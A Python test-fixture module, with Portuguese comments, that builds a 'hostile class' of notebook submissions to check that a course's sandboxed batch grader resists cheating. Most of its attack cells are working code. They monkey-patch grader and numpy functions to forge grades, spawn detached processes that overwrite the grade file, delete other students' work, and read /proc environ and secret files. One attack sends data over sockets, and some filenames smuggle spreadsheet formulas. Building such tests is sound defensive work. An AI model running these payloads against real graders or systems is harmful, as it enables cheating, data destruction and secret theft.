"""Uma turma hostil para a correção em lote: submissões honestas, erros comuns e ataques.

Usado por ``tests/test_grading_hostile.py`` (lista 1, no CI) e por
``tools/hostile_class.py`` (lista 2, a turma do "pronto quando" da issue e a
medida de tempo). Cada ataque é uma célula de código escrita por nós, que sabe
tudo o que um estudante hostil poderia saber (os caminhos da pasta das
submissões, da pasta de saída, da fonte do instrutor, do ``kernel.json`` do
ambiente) e tenta usar isso. As submissões de ataque não têm a célula de
configuração (que importa o torch): assim a turma inteira cabe no tempo do CI.

``build_class(pasta, lista, contexto)`` escreve os notebooks e devolve, para
cada arquivo, um ``Expect``: se é honesto (e então a linha dele deve ser
idêntica à da correção sem os ataques) e o máximo de pontos que ele resolveu
de verdade.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from book_layout import in_ci

from rnncourse.grading.sandbox import bwrap_status

ROOT = Path(__file__).resolve().parents[1]
EXERCISES = ROOT / "exercises"

#: marca que todo processo iniciado por um ataque carrega (para conferir que nenhum sobrou)
MARK = "rnncourse-hostil"


def require_bwrap() -> None:
    """Pula o teste sem o bubblewrap; no CI (que o instala), falha."""
    works, reason = bwrap_status()
    if works:
        return
    if in_ci():
        pytest.fail(f"o bubblewrap deveria funcionar no CI (tools/setup_env.sh): {reason}")
    pytest.skip(f"bubblewrap indisponível aqui: {reason}")


@dataclass(frozen=True)
class Expect:
    """O que se espera de uma submissão da turma."""

    honest: bool
    solved: float  # pontos que ela resolveu de verdade (o máximo que pode ganhar)
    status: str | None = None  # "ok" ou "erro", quando importa
    reason: str = ""  # trecho do motivo, quando importa


def solution(list_id: str, name: str) -> str:
    """O código da célula que define ``name`` na fonte, sem os marcadores."""
    nb = nbformat.read(EXERCISES / "sources" / f"{list_id}_fonte.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.source.startswith(f"def {name}("):
            return "\n".join(ln for ln in cell.source.splitlines() if "### " not in ln)
    raise LookupError(name)


def student(
    list_id: str,
    answers: dict[str, str] | None = None,
    extra: list[str] | None = None,
    setup: bool = True,
):
    """O notebook do estudante com respostas trocadas e células extras no fim."""
    nb = nbformat.read(EXERCISES / f"{list_id}.ipynb", as_version=4)
    if not setup:
        nb.cells = [c for c in nb.cells if "setup" not in c.metadata.get("tags", [])]
    for cell in nb.cells:
        for name, code in (answers or {}).items():
            if cell.cell_type == "code" and cell.source.startswith(f"def {name}("):
                cell.source = code
    for code in extra or []:  # no fim: depois das respostas (e do lista.resumo(), que é pulado)
        nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def _fill(code: str, ctx: dict) -> str:
    for key, value in ctx.items():
        code = code.replace("{" + key + "}", repr(str(value)))
    return code


# ----------------------------------------------------------------- os ataques
# Cada ataque: (nome do arquivo, código, respostas de verdade (nome -> pontos), status esperado)
# Os textos entre chaves ({SUBS}, {OUT}, ...) viram os caminhos reais, entre aspas.

_PATCH_GRADER = """
import sys
def attempt(fn):
    try:
        fn()
    except Exception:
        pass
def accept(*args, **kwargs):
    return None
for name, module in list(sys.modules.items()):  # todo check_* de todo módulo do corretor
    if name.startswith("rnncourse.grading") and module is not None:
        for attr in list(vars(module)):
            if attr.startswith("check_") or attr == "matches_any":
                attempt(lambda: setattr(module, attr, accept))
import rnncourse.grading.core as core
attempt(lambda: setattr(core, "judge_exchange",
                        lambda *a, **k: (core.CaseResult("x", True), None)))
def forged(answer, case, args):
    return {"status": "ok", "elapsed": 0.0, "value": 10.0, "after": []}
attempt(lambda: setattr(core, "answer_side", forged))
def forged_results(self, path, nonce, namespace):  # o ponto fraco do corretor antigo
    import json
    questions = [
        {"id": q.id, "points": q.points, "max_points": q.points, "status": "completa",
         "text": "ok"} for q in self.questions.values()
    ]
    payload = {"format": "rnncourse-grading/1", "nonce": nonce, "list_id": self.list_id,
               "questions": questions}
    with open(path, "w") as fh:
        fh.write(json.dumps(payload))
attempt(lambda: setattr(core.ExerciseList, "write_results", forged_results))
"""

_PATCH_NUMPY = """
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
__ANSWERS__
"""

_PATCH_JSON = """
import json
real_dumps = json.dumps
def dumps(obj, *args, **kwargs):  # toda questão com a nota máxima, no arquivo de resultados
    if isinstance(obj, dict) and isinstance(obj.get("questions"), list):
        for q in obj["questions"]:
            q["points"] = q.get("max_points", q.get("points"))
            q["status"] = "completa"
    return real_dumps(obj, *args, **kwargs)
json.dumps = dumps
json.loads = lambda *a, **k: {"score": 10, "points": 10}
"""

_PATCH_BUILTINS = """
import builtins
builtins.round = lambda *a, **k: 10
builtins.sum = lambda *a, **k: 10
builtins.isinstance = lambda obj, kind: True
"""

#: respostas erradas, mas com a forma certa, para o numpy "adulterado" aprovar
_SHAPED_WRONG = {
    "lista_01": "def bag_of_symbols(indices, vocab_size):\n"
    "    return np.zeros(np.shape(indices)[:-1] + (vocab_size,))\n",
    "lista_02": "def leaky_rnn_cell_forward(x, h_prev, params, alpha):\n"
    "    return np.zeros_like(h_prev)\n",
}

_FORGE_CHANNEL = """
import json, os, struct, threading, time
def frame(message):
    body = json.dumps(message).encode()
    return b"RNNC" + struct.pack(">Q", len(body)) + body
forged = frame({"event": "result", "data": {"status": "ok", "value": 10.0, "after": []}})
for fd in range(3, 64):
    try:
        os.write(fd, frame({"event": "cells_done"}) + forged * 3)
    except OSError:
        pass
def spam():  # durante os casos também
    for _ in range(2000):
        for fd in range(3, 64):
            try:
                os.write(fd, forged)
            except OSError:
                pass
        time.sleep(0.005)
threading.Thread(target=spam, daemon=True).start()
"""

_THREAD_REWRITES = """
import os, threading, time
def vandal():
    end = time.time() + 60
    while time.time() < end:
        for path in ({OUT} + "/notas.csv", {OUT} + "/devolutivas/completa.txt",
                     {SUBS} + "/completa.ipynb", {VICTIM} + "/dados.txt"):
            try:
                with open(path, "w") as fh:
                    fh.write("submissao,total\\ncompleta.ipynb,0\\n")
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=vandal, daemon=True).start()
"""

_SETSID_CHILD = """
import subprocess, sys, os
code = (
    "import time, os\\n"
    "time.sleep(2)\\n"
    "end = time.time() + 40\\n"
    "while time.time() < end:\\n"
    "    for p in (OUT + '/notas.csv', OUT + '/relatorio.txt', SUBS + '/vazia.ipynb'):\\n"
    "        try:\\n"
    "            open(p, 'w').write('forjado')\\n"
    "        except OSError:\\n"
    "            pass\\n"
    "    time.sleep(0.05)\\n"
).replace("OUT", repr({OUT})).replace("SUBS", repr({SUBS}))
subprocess.Popen([sys.executable, "-c", code, {MARK}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
os.system("setsid sh -c 'sleep 3; echo forjado > " + {OUT} + "/notas.csv; sleep 30' "
          + {MARK} + " >/dev/null 2>&1 &")
"""

_DOUBLE_FORK = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", "sleep 2; for i in $(seq 300); do echo x > "
                     + {OUT} + "/notas.csv; sleep 0.1; done", {MARK}])
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.2)
"""

_OVERWRITE_OTHERS = """
import os, json, glob, shutil
def attempt(fn, *args):
    try:
        fn(*args)
    except Exception:
        pass
def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write(text)
attempt(write, {SUBS} + "/completa.ipynb", "{}")
attempt(os.remove, {SUBS} + "/parcial.ipynb")
attempt(write, {SUBS} + "/nova.ipynb", "{}")
attempt(write, {OUT} + "/notas.csv", "submissao,total\\nataque.ipynb,10\\n")
attempt(write, {OUT} + "/devolutivas/vazia.txt", "Nota: 10 de 10\\n")
attempt(write, {OUT} + "/gradescope/vazia/results.json", json.dumps({"score": 10}))
attempt(write, {VICTIM} + "/dados.txt", "apagado")
attempt(shutil.rmtree, {VICTIM})
for path in glob.glob({GRADER_TMP} + "/*"):  # os temporários do corretor
    attempt(os.remove, path)
"""

_KERNELSPEC_PACKAGE = """
import os
def attempt(path, text, mode="a"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as fh:
            fh.write(text)
    except Exception:
        pass
attempt({KERNEL}, "\\n{\\"argv\\": [\\"false\\"]}\\n")
attempt({HOME_KERNEL}, "{}", "w")
attempt({PKG_FILE}, "\\nraise SystemExit('sabotado')\\n")
attempt("/tmp/" + {MARK} + "-temporario", "x", "w")
attempt({TMPDIR} + "/" + {MARK} + "-temporario", "x", "w")
"""

_READ_ENV = """
import os, re
summary, found = [], []
def probe(label, fn):
    try:
        text = str(fn())
        summary.append(label + ":lido")
        found.extend(re.findall(r"segredo-[0-9a-f]+", text))
    except Exception as err:
        summary.append(label + ":" + type(err).__name__)
probe("ambiente", lambda: os.environ)
probe("proc1", lambda: open("/proc/1/environ", "rb").read())
probe("pai", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read())
probe("arquivo", lambda: open({SECRET_FILE}).read())
probe("submissoes", lambda: os.listdir({SUBS}))
probe("fonte", lambda: open({SOURCE}).read())
LEAK = " ".join(summary + found)
def __FIRST__(*args, **kwargs):
    return LEAK
raise ValueError(LEAK)
"""

_PLAGIARISM = """
import json, glob, os
stolen = {}
for path in glob.glob({SUBS} + "/*.ipynb") + [{SOURCE}]:
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        src = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and src.startswith("def "):
            try:
                exec(src, globals())
            except Exception:
                pass
"""

_NETWORK = """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
    try:
        s = socket.create_connection((host, int({PORT})), timeout=2)
        s.sendall(("vazou " + {MARK}).encode())
        s.close()
    except OSError:
        pass
"""

_MUTATE_COUNTS = """
def discounted_distribution(counts, context, itos, d, p_lower):
    counts.clear()  # com as contagens apagadas, p_lower seria a resposta "certa"
    return np.array(p_lower, dtype=float)
"""

_MUTATE_PROB = """
def sentence_perplexity(prob, sentences, n):
    # se o juiz usasse o mesmo objeto, P = 1/2 em tudo daria perplexidade 2
    import math
    prob.table = lambda context, word: 0.5
    prob.n = n
    return math.log(2.0), 2.0
"""

_MUTATE_WINDOWS = """
def centered_windows(indices, w):
    indices.clear()  # com a palavra apagada, a resposta "certa" seria vazia
    return np.zeros((0, 2 * w), dtype=np.int64), np.zeros(0, dtype=np.int64)
"""

_EXIT_IN_CELL = "import os\nos._exit(3)"
_SEGFAULT = "import ctypes\nctypes.string_at(0)"
_KILL_IN_ANSWER = """
def __SECOND__(*args, **kwargs):
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)
"""
_LOOP_IN_CELL = "while True:\n    pass"
_LOOP_BLOCKING_ALARM = """
def __FIRST__(*args, **kwargs):
    import signal
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    while True:
        pass
"""
_PRINT_FLOOD = """
import os, sys
for _ in range(2000):
    print("x" * 100_000)
for fd in (1, 2):
    for _ in range(200):
        os.write(fd, b"y" * 1_000_000)
sys.__stdout__.write("z" * 10_000_000)
from IPython.display import display
for _ in range(2000):
    display({"a": "b" * 1000})
"""
_MEMORY = """
import numpy as np
try:
    huge = bytearray(2**42)
except MemoryError:
    pass
touched = np.ones(2**26)  # 512 MB de verdade
blocks = []
try:
    while True:  # e endereços até o limite (RLIMIT_AS), sem gastar o tempo de tocá-los
        blocks.append(np.empty(2**27))
except MemoryError:
    blocks.clear()
    del touched
"""
_TMPFS_FILL = """
import os, tempfile
chunk = b"0" * (8 * 1024 * 1024)
paths = [os.path.join(tempfile.gettempdir(), f"enche-{n}") for n in range(32)]
try:  # 1 GB: na caixa, a pasta privada (512 MB) enche antes
    for path in paths:
        with open(path, "wb") as fh:
            fh.write(chunk * 4)
except OSError:
    pass
finally:
    for path in paths:
        try:
            os.remove(path)
        except OSError:
            pass
"""


_MUTATE_SPELLER = """
def sample_word_min_len(next_probs, itos, rng, min_len, max_len):
    # se o juiz usasse o mesmo objeto, um modelo que sempre termina daria a palavra vazia
    import numpy as np
    next_probs.table = np.eye(len(itos))[[0] * len(itos)]
    return ""
"""

_MUTATE_DATA = """
def train_char_rnn(model, X, Y, n_steps, lr, burn_in):
    X.zero_()  # com entrada e alvo zerados, o modelo "aprenderia" a tarefa trivial
    Y.zero_()
    return [0.0] * n_steps
"""


def _names(list_id: str) -> list[str]:
    from rnncourse.grading.core import build_list

    return [q.answer_name for q in build_list(list_id).questions.values()]


def _score(list_id: str, qid: str, answer) -> float:
    """A nota que ``answer`` tira na questão, verificada no próprio processo (com os ocultos)."""
    from rnncourse.grading.batch import default_source, hidden_specs
    from rnncourse.grading.core import build_list, grade_question

    lista = build_list(list_id)
    for q, description, params in hidden_specs(default_source(list_id)):
        lista.adicionar_teste_oculto(q, description, **params)
    question = lista.questions[qid]
    return grade_question(question, answer, lista.cases(qid)[len(question.cases) :]).points


def _attacks(list_id: str) -> list[tuple[str, dict[str, str], list[str], float, str | None, str]]:
    """(arquivo, respostas, células extras, pontos resolvidos, status, trecho do motivo)."""
    from rnncourse.grading.core import build_list

    first, second = _names(list_id)[:2]
    solved = build_list(list_id).questions["q1"].points
    right = solution(list_id, first)

    def own(code: str) -> str:
        return code.replace("__FIRST__", first).replace("__SECOND__", second)

    numpy_attack = _PATCH_NUMPY.replace("__ANSWERS__", _SHAPED_WRONG.get(list_id, ""))

    common = [
        ("ataque_corretor.ipynb", {}, [_PATCH_GRADER], 0.0, None, ""),
        ("ataque_numpy.ipynb", {}, [numpy_attack], 0.0, None, ""),
        ("ataque_json.ipynb", {}, [_PATCH_JSON], 0.0, None, ""),
        ("ataque_builtins.ipynb", {}, [_PATCH_BUILTINS], 0.0, None, ""),
        ("ataque_canal.ipynb", {}, [_FORGE_CHANNEL], 0.0, None, ""),
        ("ataque_thread.ipynb", {first: right}, [_THREAD_REWRITES], solved, "ok", ""),
        ("ataque_setsid.ipynb", {}, [_SETSID_CHILD], 0.0, None, ""),
        ("ataque_daemon.ipynb", {}, [_DOUBLE_FORK], 0.0, None, ""),
        ("ataque_arquivos.ipynb", {}, [_OVERWRITE_OTHERS], 0.0, "ok", ""),
        ("ataque_kernelspec.ipynb", {}, [_KERNELSPEC_PACKAGE], 0.0, "ok", ""),
        ("ataque_ambiente.ipynb", {}, [own(_READ_ENV)], 0.0, "ok", ""),
        ("ataque_plagio.ipynb", {}, [_PLAGIARISM], 0.0, "ok", ""),
        ("ataque_rede.ipynb", {}, [_NETWORK], 0.0, "ok", ""),
        ("ataque_os_exit.ipynb", {}, [_EXIT_IN_CELL], 0.0, "erro", "o kernel morreu"),
        ("ataque_segfault.ipynb", {}, [_SEGFAULT], 0.0, "erro", "o kernel morreu"),
        (
            "ataque_morre_na_resposta.ipynb",
            {first: right, second: own(_KILL_IN_ANSWER)},
            [],
            solved,
            "ok",
            "morreu ou travou em q2",
        ),
        ("ataque_laco.ipynb", {}, [_LOOP_IN_CELL], 0.0, "erro", "tempo esgotado"),
        ("ataque_alarme.ipynb", {first: own(_LOOP_BLOCKING_ALARM)}, [], 0.0, "ok", "q1"),
        ("ataque_enxurrada.ipynb", {first: right}, [_PRINT_FLOOD], solved, "ok", ""),
        ("ataque_memoria.ipynb", {first: right}, [_MEMORY], solved, "ok", ""),
        ("ataque_disco.ipynb", {}, [_TMPFS_FILL], 0.0, "ok", ""),
    ]
    if list_id == "lista_01":
        return common + [
            (
                "ataque_muta_contagens.ipynb",
                {"discounted_distribution": _MUTATE_COUNTS},
                [],
                0,
                "ok",
                "",
            ),
            (
                "ataque_muta_modelo.ipynb",
                {"sentence_perplexity": _MUTATE_PROB},
                [],
                0.0,
                "ok",
                "",
            ),
            ("ataque_muta_lista.ipynb", {"centered_windows": _MUTATE_WINDOWS}, [], 0.0, "ok", ""),
        ]
    if list_id == "lista_02":
        # devolver "" não acerta nenhum caso (o modelo nunca termina a palavra no 1º passo)
        empty = _score(list_id, "q4", lambda next_probs, itos, rng, min_len, max_len: "")
        return common + [
            (
                "ataque_muta_modelo.ipynb",
                {"sample_word_min_len": _MUTATE_SPELLER},
                [],
                empty,
                "ok",
                "",
            ),
            ("ataque_muta_dados.ipynb", {"train_char_rnn": _MUTATE_DATA}, [], 0.0, "ok", ""),
        ]
    return common


def _malformed(list_id: str) -> dict[str, tuple[bytes, Expect]]:
    """Arquivos que não são notebooks, ou notebooks com metadados estranhos."""
    from rnncourse.grading.core import build_list

    first = _names(list_id)[0]
    solved = build_list(list_id).questions["q1"].points
    tags5 = student(list_id, {first: solution(list_id, first)}, setup=False)
    tags5.cells[-1].metadata["tags"] = 5
    tags5.cells[-2].metadata = {"tags": [None, 3, "verificar"]}
    data = json.loads(nbformat.writes(tags5))
    data["cells"].append({"cell_type": "code", "source": 123, "metadata": []})
    data["cells"].append("não é uma célula")
    zero = Expect(False, 0.0, "erro", "não é um notebook válido")
    return {
        "json_invalido.ipynb": (b'{"cells": [', zero),
        "nao_utf8.ipynb": (b"\xff\xfe\x00{cells", zero),
        "aninhado.ipynb": (b"[" * 200_000, zero),
        "lista.ipynb": (b"[]", zero),
        "vazio.ipynb": (b"", zero),
        "celulas_5.ipynb": (b'{"cells": 5}', zero),
        "metadados.ipynb": (json.dumps(data).encode(), Expect(False, solved, "ok")),
    }


def partial_answers(list_id: str) -> dict[str, str]:
    """Uma entrega honesta e incompleta: a primeira questão certa e um erro comum plantado."""
    if list_id == "lista_01":
        return {
            "bag_of_symbols": solution(list_id, "bag_of_symbols"),
            "count_word_ngrams": solution(list_id, "count_word_ngrams").replace(
                '+ sentence.split() + ["</s>"]', "+ sentence.split()"
            ),
        }
    return {
        "leaky_rnn_cell_forward": solution(list_id, "leaky_rnn_cell_forward"),
        "top_k_softmax": solution(list_id, "top_k_softmax").replace(
            "z = logits / temperature", "z = logits * temperature"
        ),
        "sample_word_min_len": solution(list_id, "sample_word_min_len"),
    }


def build_class(folder: Path, list_id: str, ctx: dict) -> dict[str, Expect]:
    """Escreve a turma em ``folder``; ``ctx`` tem os caminhos que os ataques conhecem."""
    folder.mkdir(parents=True, exist_ok=True)
    expects: dict[str, Expect] = {}
    source = EXERCISES / "sources" / f"{list_id}_fonte.ipynb"
    (folder / "completa.ipynb").write_bytes(source.read_bytes())
    expects["completa.ipynb"] = Expect(True, 10.0, "ok")
    (folder / "vazia.ipynb").write_bytes((EXERCISES / f"{list_id}.ipynb").read_bytes())
    expects["vazia.ipynb"] = Expect(True, 0.0, "ok")
    partial = student(list_id, partial_answers(list_id))
    nbformat.write(partial, folder / "parcial.ipynb")
    expects["parcial.ipynb"] = Expect(True, 10.0, "ok")
    # nomes estranhos, mas conteúdo honesto
    honest_names = ["=HIPERLINK(1).ipynb", "MAIÚSCULA.IPYNB", "nome\ncom linha.ipynb"]
    for name in honest_names:
        first = _names(list_id)[0]
        nb = student(list_id, {first: solution(list_id, first)}, setup=False)
        nbformat.write(nb, folder / name)
        expects[name] = Expect(True, 10.0, "ok")
    raw_name = b"caf\xe9.ipynb"
    nbformat.write(
        student(list_id, setup=False), folder / raw_name.decode("utf-8", "surrogateescape")
    )
    expects[raw_name.decode("utf-8", "surrogateescape")] = Expect(True, 0.0, "ok")
    # nomes que tentam tomar a linha de outro estudante na tabela
    for name in ("caf\\xe9.ipynb", "'=HIPERLINK(1).ipynb"):
        (folder / name).write_bytes((EXERCISES / f"{list_id}.ipynb").read_bytes())
        expects[name] = Expect(False, 0.0, "ok")
    link = folder / "link.ipynb"
    link.symlink_to(ctx["SECRET_FILE"])
    expects["link.ipynb"] = Expect(False, 0.0, "erro", "link simbólico")
    for name, (raw, expect) in _malformed(list_id).items():
        (folder / name).write_bytes(raw)
        expects[name] = expect
    for name, answers, extra, solved, status, reason in _attacks(list_id):
        nb = student(list_id, answers, [_fill(code, ctx) for code in extra], setup=False)
        nbformat.write(nb, folder / name)
        expects[name] = Expect(False, float(solved), status, reason)
    return expects
